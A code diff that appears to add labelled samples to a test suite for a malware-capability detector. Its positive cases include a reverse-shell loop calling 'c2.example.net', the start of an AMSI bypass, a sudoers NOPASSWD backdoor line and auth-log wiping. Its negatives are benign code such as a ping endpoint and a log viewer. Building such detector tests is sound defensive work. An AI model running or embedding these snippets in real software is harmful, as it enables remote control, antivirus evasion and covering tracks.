@@ -112,6 +112,19 @@ echo 'ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/zz
 LOG=/var/log/auth.log
 sed -i "/$USER/d" $LOG
 """,
+    "capability-remote-control": """
+import socket, subprocess, time
+while True:
+    s = socket.create_connection(("c2.example.net", 443))
+    cmd = s.recv(4096).decode()
+    s.sendall(subprocess.check_output(cmd, shell=True))
+    time.sleep(5)
+""",
+    "capability-defence-evasion": """
+import ctypes
+amsi = ctypes.windll.LoadLibrary("amsi.dll")
+addr = ctypes.windll.kernel32.GetProcAddress(amsi._handle, b"AmsiScanBuffer")
+""",
     "capability-screen-spy": """
 import pyautogui, requests, time
 while True:
@@ -182,6 +195,18 @@ systemctl status cron
     "a comment that describes malware": """
 # send the keystrokes to the server, then encrypt the files and delete them (pynput, smtplib)
 print("hello")
+""",
+    "a ping endpoint with an argument list": """
+import subprocess
+from flask import request
+def ping():
+    host = request.args["host"]
+    return subprocess.run(["ping", "-c", "1", host], capture_output=True).stdout
+""",
+    "a log viewer": """
+def errors(path="/var/log/syslog"):
+    with open(path) as f:
+        return [line for line in f if "error" in line]
 """,
     "a recursive directory size": """
 import os
